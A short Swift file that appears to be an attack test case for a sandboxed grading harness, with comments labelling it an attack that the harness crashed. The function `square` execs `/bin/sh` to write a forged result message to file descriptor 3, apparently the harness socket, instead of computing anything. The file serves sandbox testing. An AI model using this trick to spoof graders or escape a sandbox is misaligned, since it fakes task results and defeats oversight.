// Attack: Becomes another program, which keeps the process's id and the socket.
// Verdict: crashed 6
// Uses: Memory.swift Requests.swift StagesCalls.swift
// swift-format-ignore-file
import Glibc

public func square(_ number: Int) throws -> Int {
    let text = "{\"id\":\(Requests.id ?? "1"),\"ending\":{\"outcome\":{\"_0\":[42]}}}"
    let length = String(text.utf8.count, radix: 8)
    let words = ["/bin/sh", "-c", "(printf '\\0\\0\\0\\\(length)%s' '\(text)' >&3); exit 0"]
    var copies = words.map { strdup($0) } + [nil]
    execv("/bin/sh", &copies)
    return number * number
}
